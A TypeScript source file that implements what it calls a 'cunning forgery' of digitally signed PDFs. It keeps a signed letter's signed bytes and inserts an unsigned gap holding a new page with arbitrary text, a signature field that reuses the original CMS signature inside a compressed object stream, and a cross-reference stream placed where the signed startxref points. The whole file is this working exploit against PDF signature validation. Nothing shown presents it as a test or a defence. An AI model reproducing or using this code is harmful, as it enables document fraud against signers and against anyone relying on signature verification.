// The cunning forgery: all signed bytes of a letter kept, and a document of one's own in the hole that they leave out.
import { deflateSync } from 'node:zlib'

/**
 * A PDF whose newest signature is that of `sealed`, over the same bytes, and whose page says `text`. The signed bytes are cut at
 * `cut` and parted by a hole that nobody signs. In the hole lie a cross-reference at the offset that the signed
 * `startxref` names, a page, and a field whose signature stands in a packed stream, padded so that its /Contents has the
 * hole's own offsets there.
 */
export function layOver(sealed: Uint8Array, text: string, cut = 2000): Uint8Array {
  const file = Buffer.from(sealed).toString('latin1')
  const range = [...file.matchAll(/\/ByteRange\s*\[\s*0 (\d+) (\d+) (\d+)\s*\]/g)].at(-1)
  const date = [...file.matchAll(/\/M\s*(\(D:[^)]*\)|<[0-9A-Fa-f]+>)/g)].at(-1)?.[1]
  const xref = Number([...file.matchAll(/startxref\s+(\d+)/g)].at(-1)?.[1])
  const [from, resume, length] = (range ?? []).slice(1).map(Number)
  if (from === undefined || resume === undefined || length === undefined || date === undefined || !(xref > cut))
    throw new Error('not a letter that this forgery fits')
  const signed = file.slice(0, from) + file.slice(resume, resume + length)
  const cms = file.slice(from, resume)
  const shown = `BT /F1 24 Tf 60 700 Td (${text}) Tj ET`
  const hole = (end: number): string => {
    const head = '8 0 '
    const start = `${head}<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/M${date}/ByteRange[0 ${cut} ${end} ${signed.length - cut}]/Contents `
    const packed = deflateSync(
      Buffer.from(`${start.padEnd(cut)}${cms.slice(0, -1).padEnd(end - cut - 1, '0')}>>>`, 'latin1'),
    ).toString('latin1')
    const objects = [
      '<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/SigFlags 3>>>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[6 0 R]>>',
      `<</Length ${shown.length}>>\nstream\n${shown}\nendstream`,
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      '<</Type/Annot/Subtype/Widget/FT/Sig/T(dau)/V 8 0 R/Rect[0 0 0 0]/P 3 0 R>>',
      `<</Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream`,
    ]
    const table = (offsets: readonly number[]) => {
      const entries = Buffer.alloc(7 * 10)
      entries.writeUInt16BE(65_535, 5)
      for (let number = 1; number < 10; number++) {
        entries[number * 7] = number === 8 ? 2 : 1
        entries.writeUInt32BE(number === 8 ? 7 : (offsets[number] ?? 0), number * 7 + 1)
      }
      return `9 0 obj\n<</Type/XRef/Size 10/W[1 4 2]/Root 1 0 R/Length ${entries.length}>>\nstream\n${entries.toString('latin1')}\nendstream\nendobj\n`
    }
    let offsets: number[] = []
    for (let round = 0; ; round++) {
      let out = `<${' '.repeat(xref - cut - 1)}${table(offsets)}`
      if (round === 1) return out + objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('')
      offsets = [0]
      for (const [index, object] of objects.entries()) {
        offsets.push(cut + out.length)
        out += `${index + 1} 0 obj\n${object}\nendobj\n`
      }
      offsets.push(0, xref)
    }
  }
  const end = cut + hole(xref + 40_000 + cms.length).length + cms.length + 3000
  return Buffer.from(signed.slice(0, cut) + hole(end).padEnd(end - cut) + signed.slice(cut), 'latin1')
}
